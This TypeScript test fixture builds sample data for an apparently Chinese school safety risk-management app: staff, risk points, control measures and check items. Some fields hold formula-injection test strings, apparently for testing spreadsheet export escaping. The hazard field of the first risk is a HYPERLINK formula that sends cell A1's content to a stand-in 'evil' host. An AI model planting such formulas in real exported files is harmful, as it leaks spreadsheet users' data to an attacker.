import { exchangeFormatName, exchangeFormatVersion, type SchoolData } from '../../shared/exchange/school-data'
import { defaultValueTables } from '../../shared/grading/value-tables'

/**
 * A small school built by hand: three risk points graded by LEC, LS and directly, measures of every
 * category, check items from measures and one added by hand, and texts that would start a formula.
 */
export function fixtureSchool(): SchoolData {
  return {
    format: exchangeFormatName,
    formatVersion: exchangeFormatVersion,
    schoolFileId: '6f1c2d3e-4b5a-4c6d-8e7f-901234567890',
    exportedAt: '2026-12-04T02:30:00.000Z',
    appVersion: '0.1.0',
    school: {
      name: '焦作市解放区测试小学',
      county: '解放区',
      scope: '城区',
      nature: '公办',
      category: '小学',
      address: '焦作市解放区民主路 1 号',
      principal: '刘校长',
      principalPhone: '13900000001',
      deputy: '陈副校长',
      deputyPhone: '13900000002',
      contactName: '周联系',
      contactPhone: '0391-2900001',
      pupilCount: 820,
      staffCount: 56,
      classCount: 18,
      facilities: ['canteen'],
      surroundings: '学校南临民主路。',
      note: '含附属幼儿园',
      updatedAt: '2026-12-01T08:00:00.000Z'
    },
    staff: [
      { id: 1, name: '周联系', phone: '0391-2900001', department: '安全办', note: '', postIds: [1] },
      { id: 2, name: '吴师傅', phone: '13900000003', department: '总务处', note: '', postIds: [2] },
      { id: 3, name: '郑厨师', phone: '13900000004', department: '总务处', note: '', postIds: [3] }
    ],
    posts: [
      { id: 1, code: 'safety-director', name: '安全办主任', department: '安全办', sortOrder: 1, responsibilities: [{ id: 1, kind: 'duty', content: '组织开展双重预防体系建设。' }], staffIds: [1] },
      { id: 2, code: 'electrician', name: '电工', department: '总务处', sortOrder: 2, responsibilities: [], staffIds: [2] },
      { id: 3, code: 'cook', name: '炊事员', department: '总务处', sortOrder: 3, responsibilities: [], staffIds: [3] }
    ],
    leadingGroup: {
      members: [{ id: 1, staffId: 1, role: 'leader', title: '安全办主任', duty: '全面负责', sortOrder: 1 }],
      office: { name: '双重预防体系建设工作办公室', location: '行政楼', directorStaffId: 1, contactStaffId: 1, phone: '0391-2900001', duties: '日常工作', documentNumber: '测试校〔2026〕1号', issuedOn: '2026-09-01' }
    },
    policies: [{ id: 1, kind: 'risk-control', title: '安全风险分级管控制度', body: '第一条 为……', sortOrder: 1 }],
    valueTables: defaultValueTables,
    riskPoints: [
      {
        id: 10,
        code: 'FX-01',
        libraryKey: null,
        name: '配电室',
        kind: 'facility',
        area: '行政楼一层',
        ownerPostId: 2,
        ownerStaffId: 2,
        description: '',
        sortOrder: 1,
        risks: [
          {
            id: 100,
            riskPointId: 10,
            libraryKey: null,
            hazard: '=HYPERLINK("http://evil/"&A1,"点我")',
            factorType: '物的因素',
            consequence: '触电',
            accidentTypes: ['05', '08'],
            method: 'lec',
            lecL: 3,
            lecE: 6,
            lecC: 15,
            lsL: null,
            lsS: null,
            directLevel: null,
            score: 270,
            level: 'high',
            controlLevel: 'department',
            ownerPostId: 2,
            ownerStaffId: 2,
            sortOrder: 1,
            measures: [
              { id: 1000, riskId: 100, category: 'engineering', content: '配电柜加装漏电保护装置', controlLevel: 'department', ownerPostId: 2, ownerStaffId: 2, sortOrder: 1 },
              { id: 1001, riskId: 100, category: 'engineering', content: '配电室门口设置挡鼠板', controlLevel: 'department', ownerPostId: 2, ownerStaffId: 2, sortOrder: 2 },
              { id: 1002, riskId: 100, category: 'management', content: '电工持证上岗，每日巡检', controlLevel: 'department', ownerPostId: 2, ownerStaffId: 2, sortOrder: 3 },
              { id: 1003, riskId: 100, category: 'protective', content: '佩戴绝缘手套、穿绝缘鞋', controlLevel: 'post', ownerPostId: 2, ownerStaffId: 2, sortOrder: 4 },
              { id: 1004, riskId: 100, category: 'emergency', content: '发生触电立即切断电源，拨打 120', controlLevel: 'department', ownerPostId: 2, ownerStaffId: 2, sortOrder: 5 }
            ]
          },
          {
            id: 101,
            riskPointId: 10,
            libraryKey: null,
            hazard: '@SUM(A1) 配电柜周边堆放杂物',
            factorType: '管理因素',
            consequence: '火灾',
            accidentTypes: ['08'],
            method: 'lec',
            lecL: -3,
            lecE: 0.5,
            lecC: 7,
            lsL: null,
            lsS: null,
            directLevel: null,
            score: 10.5,
            level: 'low',
            controlLevel: 'post',
            ownerPostId: null,
            ownerStaffId: null,
            sortOrder: 2,
            measures: [{ id: 1005, riskId: 101, category: 'training', content: '对电工开展消防安全培训', controlLevel: 'post', ownerPostId: 2, ownerStaffId: null, sortOrder: 1 }]
          }
        ]
      },
      {
        id: 11,
        code: 'FX-02',
        libraryKey: null,
        name: '学生食堂',
        kind: 'facility',
        area: '食堂一层',
        ownerPostId: 3,
        ownerStaffId: 3,
        description: '',
        sortOrder: 2,
        risks: [
          {
            id: 110,
            riskPointId: 11,
            libraryKey: null,
            hazard: '食材采购验收不严，使用过期或变质食材',
            factorType: '管理因素',
            consequence: '群体性食物中毒',
            accidentTypes: ['S02'],
            method: 'ls',
            lecL: null,
            lecE: null,
            lecC: null,
            lsL: 4,
            lsS: 5,
            directLevel: null,
            score: 20,
            level: 'major',
            controlLevel: 'school',
            ownerPostId: 3,
            ownerStaffId: 3,
            sortOrder: 1,
            measures: [
              { id: 1100, riskId: 110, category: 'management', content: '落实索证索票和进货查验制度', controlLevel: 'school', ownerPostId: 3, ownerStaffId: 3, sortOrder: 1 },
              { id: 1101, riskId: 110, category: 'management', content: '每餐留样 125 克以上，保存 48 小时', controlLevel: 'school', ownerPostId: 3, ownerStaffId: 3, sortOrder: 2 },
              { id: 1102, riskId: 110, category: 'management', content: '-18℃冷冻储存，先进先出', controlLevel: 'school', ownerPostId: 3, ownerStaffId: 3, sortOrder: 3 }
            ]
          }
        ]
      },
      {
        id: 12,
        code: 'FX-03',
        libraryKey: null,
        name: '大型集会活动',
        kind: 'activity',
        area: '操场',
        ownerPostId: 1,
        ownerStaffId: 1,
        description: '',
        sortOrder: 3,
        risks: [
          {
            id: 120,
            riskPointId: 12,
            libraryKey: null,
            hazard: '集会散场时学生拥挤',
            factorType: '人的因素',
            consequence: '拥挤踩踏',
            accidentTypes: ['S01'],
            method: 'direct',
            lecL: null,
            lecE: null,
            lecC: null,
            lsL: null,
            lsS: null,
            directLevel: 'medium',
            score: null,
            level: 'medium',
            controlLevel: 'grade',
            ownerPostId: 1,
            ownerStaffId: 1,
            sortOrder: 1,
            measures: [{ id: 1200, riskId: 120, category: 'management', content: '分年级错峰退场，楼梯口安排教师值守', controlLevel: 'grade', ownerPostId: 1, ownerStaffId: 1, sortOrder: 1 }]
          }
        ]
      }
    ],
    checkItems: [
      { id: 1, riskPointId: 10, measureId: 1000, content: '=1+1 漏电保护装置是否有效', standard: '按试验按钮能正常跳闸', method: '测试检测', inspectionType: 'daily', frequency: 'weekly', responsiblePostId: 2, edited: false, sortOrder: 1 },
      { id: 2, riskPointId: 10, measureId: 1002, content: '电工是否持证上岗', standard: '电工证在有效期内', method: '查阅资料', inspectionType: 'comprehensive', frequency: 'monthly', responsiblePostId: 1, edited: false, sortOrder: 2 },
      { id: 3, riskPointId: 11, measureId: 1101, content: '@留样是否规范', standard: '每餐每样不少于 125 克，保存 48 小时以上', method: '查看现场', inspectionType: 'daily', frequency: 'daily', responsiblePostId: 3, edited: false, sortOrder: 1 },
      { id: 4, riskPointId: 12, measureId: null, content: '集会前是否制定疏散方案', standard: '有方案、有分工、有演练', method: '查阅资料', inspectionType: 'special', frequency: 'term', responsiblePostId: 1, edited: true, sortOrder: 1 }
    ]
  }
}
